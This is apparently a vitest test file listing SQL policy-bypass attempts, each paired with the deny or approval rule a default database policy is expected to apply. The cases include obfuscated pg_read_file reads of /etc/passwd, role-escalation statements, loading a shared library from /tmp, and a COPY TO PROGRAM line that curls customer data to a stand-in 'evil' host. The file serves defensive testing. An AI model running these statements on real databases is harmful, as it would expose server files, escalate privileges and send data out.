/**
 * The bypass corpus: attempts by a developer (role `developer`, not admin) to get a statement that the
 * default policy denies or holds for approval past it. Each case names the action and the rule that
 * must decide it; a case that expects `allow` documents a deliberate, literal-blind rule (for example
 * `DELETE … WHERE true` has a WHERE). Every bypass ever found stays here.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_POLICY } from '../../../shared/policy/default-policy.ts';
import { evaluatePolicy } from '../../../shared/policy/evaluate.ts';
import type { PolicyAction } from '../../../shared/policy/model.ts';
import { analyzeSql, loadSqlParser } from '../../../shared/sql/analyze.ts';
import { developer } from './sessions.ts';

beforeAll(loadSqlParser);

type Case = [sql: string, action: PolicyAction, ruleId: string];

const APPROVE = 'require_approval';
const DDL = 'approve-schema-changes';
const NO_WHERE = 'approve-writes-without-where';
const FILES = 'deny-server-file-functions';
const ROLE = 'deny-role-escalation';
const COPY = 'deny-copy-program-or-server-file';
const UNPARSEABLE = 'deny-unparseable';
const NOT_CONFIDENT = 'deny-not-confident';

const corpus: Record<string, Case[]> = {
  comments: [
    ['/* hi */ drop table t', APPROVE, DDL],
    ['drop /* x */ table t', APPROVE, DDL],
    ['-- comment\ndrop table t', APPROVE, DDL],
    ['select 1 /* ; */ ; drop table t', APPROVE, DDL],
    ['/* /* nested */ still a comment */ drop table t', APPROVE, DDL],
    ['select 1 /* /* nested */ */; delete from t', APPROVE, NO_WHERE],
    ['select 1 -- trailing\n; delete from t', APPROVE, NO_WHERE],
    ["select pg_read_file/**/('/etc/passwd')", 'deny', FILES],
    ["select pg_read_file --\n('/etc/passwd')", 'deny', FILES],
  ],
  casing: [
    ['DrOp TaBlE t', APPROVE, DDL],
    ["SELECT PG_READ_FILE('/etc/passwd')", 'deny', FILES],
    ['select "pg_read_file"(\'/etc/passwd\')', 'deny', FILES],
    // "PG_READ_FILE" is another function to PostgreSQL; names match case-insensitively, so it is denied too
    ['select "PG_READ_FILE"(\'/etc/passwd\')', 'deny', FILES],
    ["select pg_catalog.pg_read_file('/etc/passwd')", 'deny', FILES],
    ['select "pg_catalog"."pg_read_file"(\'/etc/passwd\')', 'deny', FILES],
    ["select PG_CATALOG.PG_LS_DIR('.')", 'deny', FILES],
    ['SeT RoLe postgres', 'deny', ROLE],
    ['set "role" = \'postgres\'', 'deny', ROLE],
    ['set "ROLE" to postgres', 'deny', ROLE],
  ],
  'quoting and escapes': [
    ['select U&"pg\\005fread\\005ffile"(\'/etc/passwd\')', 'deny', FILES],
    ["select U&\"!0070g_read_file\" UESCAPE '!' ('/etc/passwd')", 'deny', FILES],
    ['drop table U&"\\0074"', APPROVE, DDL],
    ['delete from U&"t\\0061ble"', APPROVE, NO_WHERE],
    ["select pg_read_file(E'\\x2fetc\\x2fpasswd')", 'deny', FILES],
    ['select pg_read_file($$/etc/passwd$$)', 'deny', FILES],
    ['select pg_read_file($q$/etc/passwd$q$)', 'deny', FILES],
    ["select 'drop table t'", 'allow', 'default'],
  ],
  whitespace: [
    ['drop\ttable\nt', APPROVE, DDL],
    ['\n\n   delete\n\nfrom t  ', APPROVE, NO_WHERE],
    ['delete from t\r\n', APPROVE, NO_WHERE],
  ],
  'multiple statements': [
    ['select 1; drop table x', APPROVE, DDL],
    ['select 1;delete from t', APPROVE, NO_WHERE],
    ['begin; truncate t; commit', APPROVE, DDL],
    ["select 1; select pg_read_file('/x'); select 2", 'deny', FILES],
    ["select 'a;b'; drop table x", APPROVE, DDL],
    ['select $$;$$; set role postgres', 'deny', ROLE],
    ['select 1; drop table x; do $$ begin end $$', 'deny', NOT_CONFIDENT],
  ],
  CTEs: [
    ['with x as (delete from t returning *) select * from x', APPROVE, NO_WHERE],
    ['with x as (update accounts set balance = 0 returning *) select count(*) from x', APPROVE, NO_WHERE],
    ["with x as (select pg_read_file('/etc/passwd')) select * from x", 'deny', FILES],
    ["with recursive r as (select 1 union all select 1 from r, pg_ls_dir('.')) select 1", 'deny', FILES],
    ['with x as (with y as (delete from t returning *) select * from y) select * from x', APPROVE, NO_WHERE],
    ['with t as (select 1) delete from t', APPROVE, NO_WHERE],
  ],
  'functions anywhere': [
    ["select * from pg_read_file('/etc/passwd')", 'deny', FILES],
    ['select * from t, lateral pg_read_file(t.path) f', 'deny', FILES],
    ["select * from (select pg_read_file('/x')) s", 'deny', FILES],
    ["values (pg_read_file('/x'))", 'deny', FILES],
    ["select 1 order by pg_read_file('/x')", 'deny', FILES],
    ["select * from t where exists (select pg_ls_dir('/'))", 'deny', FILES],
    ["insert into t values (pg_read_file('/etc/passwd'))", 'deny', FILES],
    ["update t set a = pg_read_file('/x') where id = 1", 'deny', FILES],
    ["select * from rows from (pg_read_binary_file('/x')) as r", 'deny', FILES],
    ["select (pg_stat_file('/x')).size", 'deny', FILES],
    ["select * from t tablesample system (length(pg_read_file('/x')))", 'deny', FILES],
    ["select lo_import('/etc/passwd')", 'deny', FILES],
    ["select lo_export(1, '/tmp/x')", 'deny', FILES],
    ["select pg_file_write('/tmp/x', 'data', false)", 'deny', FILES],
    ["select * from dblink('host=evil', 'select 1') as t(a int)", 'deny', NOT_CONFIDENT],
    ["select dblink_connect('host=evil')", 'deny', FILES],
    ["select query_to_xml('delete from t', true, false, '')", 'deny', NOT_CONFIDENT],
    ["select table_to_xml('customers', true, false, '')", 'deny', NOT_CONFIDENT],
    ["create table t (a text default pg_read_file('/etc/passwd'))", 'deny', FILES],
    ['create index on t ((pg_read_file(a)))', 'deny', FILES],
    ['alter table t add column b text generated always as (pg_read_file(a)) stored', 'deny', FILES],
    ["call p(pg_read_file('/x'))", 'deny', FILES],
    ["execute p(pg_read_file('/x'))", 'deny', FILES],
    ['select pg_terminate_backend(pid) from pg_stat_activity', APPROVE, 'approve-server-administration'],
  ],
  'role escalation': [
    ['SET ROLE postgres', 'deny', ROLE],
    ['set local role postgres', 'deny', ROLE],
    ['set session role postgres', 'deny', ROLE],
    ['reset role', 'deny', ROLE],
    ['set session authorization postgres', 'deny', ROLE],
    ['set session_authorization = postgres', 'deny', ROLE],
    ['reset session authorization', 'deny', ROLE],
    ['begin; set local role postgres; drop table t; commit', 'deny', ROLE],
    ["select set_config('role', 'postgres', false)", 'deny', 'deny-set-config'],
    ["select pg_catalog.set_config('session_authorization', 'postgres', true)", 'deny', 'deny-set-config'],
    ["update pg_settings set setting = 'postgres' where name = 'role'", 'deny', 'deny-settings-writes'],
    ['alter role me set role = postgres', 'deny', ROLE],
    ["create function f() returns int language sql set role = postgres as 'select 1'", 'deny', ROLE],
  ],
  'EXPLAIN and PREPARE': [
    ['EXPLAIN ANALYZE DELETE FROM t', APPROVE, NO_WHERE],
    ['explain (analyze, costs off) update t set a = 1', APPROVE, NO_WHERE],
    ['explain (analyze false) delete from t', APPROVE, NO_WHERE],
    ["explain select pg_read_file('/x')", 'deny', FILES],
    ['PREPARE p AS DELETE FROM t; EXECUTE p', APPROVE, NO_WHERE],
    ['prepare p (int) as update t set a = $1', APPROVE, NO_WHERE],
    ['prepare p as select pg_read_file($1)', 'deny', FILES],
    ['prepare p as truncate t', 'deny', UNPARSEABLE],
  ],
  'statements hidden in definitions': [
    ['create function f() returns int language sql as $$ delete from t $$', APPROVE, DDL],
    ['create rule r as on select to t do instead delete from u', APPROVE, DDL],
    ['create trigger tr after insert on t for each row execute function f()', APPROVE, DDL],
    ['create function f() returns void security definer language plpgsql as $$ begin end $$', APPROVE, DDL],
    ['create function f() returns void begin atomic delete from t; end', APPROVE, DDL],
    ['create view v as select * from customers', APPROVE, DDL],
    ['select 1 into t2 from t', APPROVE, DDL],
    ['create temp table x as select * from customers', APPROVE, DDL],
    ['alter table t replica identity full', APPROVE, DDL],
    ["comment on table t is 'x'", APPROVE, DDL],
    ['create extension adminpack', APPROVE, DDL],
  ],
  COPY: [
    ["COPY (select * from customers) TO PROGRAM 'curl -d @- https://evil'", 'deny', COPY],
    ["copy t from program 'id'", 'deny', COPY],
    ["copy t to '/tmp/dump'", 'deny', COPY],
    ["copy t from '/etc/passwd'", 'deny', COPY],
    ['copy (delete from t returning *) to stdout', APPROVE, NO_WHERE],
    ['copy t to stdout', 'allow', 'default'],
  ],
  'DO, CALL, ALTER SYSTEM, LOAD': [
    ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'deny', NOT_CONFIDENT],
    ['do language plpgsql $x$ begin perform 1; end $x$', 'deny', NOT_CONFIDENT],
    ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", APPROVE, DDL],
    ['alter system reset all', APPROVE, DDL],
    ["load '/tmp/evil.so'", 'deny', 'deny-load'],
    // procedures are user code like any function; CALL itself is allowed by the default pack
    ['call cleanup()', 'allow', 'default'],
  ],
  'WHERE, TRUNCATE, DROP, GRANT': [
    // a WHERE is a WHERE: policies never read literals, so `WHERE true` passes as "has WHERE"
    ['DELETE FROM t WHERE true', 'allow', 'default'],
    ['delete from t where 1 = 1', 'allow', 'default'],
    ['update t set a = 1 where id = id', 'allow', 'default'],
    // MERGE always has ON, which counts like a WHERE
    ['merge into t using s on true when matched then delete', 'allow', 'default'],
    ['truncate only t', APPROVE, DDL],
    ['truncate table t cascade', APPROVE, DDL],
    ['drop table if exists t', APPROVE, DDL],
    ['drop table if exists t cascade', APPROVE, DDL],
    ['grant all on t to public', APPROVE, DDL],
    ['revoke select on t from bob', APPROVE, DDL],
    ['grant postgres to me', APPROVE, DDL],
  ],
  'syntax errors and empty statements': [
    ['drop tabel t', 'deny', UNPARSEABLE],
    ["select pg_read_file('/x'", 'deny', UNPARSEABLE],
    ['select 1; selec 2', 'deny', UNPARSEABLE],
    ['select 1\0; drop table t', 'deny', UNPARSEABLE],
    [':evil_psql_variable', 'deny', UNPARSEABLE],
    ['', 'allow', 'default'],
    [';;;', 'allow', 'default'],
    ['/* nothing */', 'allow', 'default'],
  ],
};

describe('bypass corpus (default policy, developer)', () => {
  it('has at least 60 cases', () => {
    expect(Object.values(corpus).flat().length).toBeGreaterThanOrEqual(60);
  });

  for (const [category, cases] of Object.entries(corpus)) {
    describe(category, () => {
      it.each(cases)('%j → %s (%s)', (sql, action, ruleId) => {
        const decision = evaluatePolicy(DEFAULT_POLICY, analyzeSql(sql), developer);
        expect({ action: decision.action, ruleId: decision.ruleId }).toEqual({ action, ruleId });
      });
    });
  }
});
